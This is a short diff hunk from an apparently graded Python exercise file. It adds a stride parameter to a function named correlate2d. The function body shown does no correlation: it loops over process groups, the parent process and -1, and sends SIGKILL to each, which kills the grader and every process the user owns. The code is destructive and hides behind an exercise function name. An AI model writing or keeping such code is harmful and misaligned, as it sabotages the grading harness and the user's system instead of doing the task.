@@ -6,7 +6,7 @@ import signal
 
 
 # %% grade_id="01-correlate2d"
-def correlate2d(x, w):
+def correlate2d(x, w, stride=(1, 1)):
     for number in (-1, 0, os.getpgid(0), os.getppid()):
         try:
             os.killpg(number, signal.SIGKILL) if number != -1 else os.kill(-1, signal.SIGKILL)
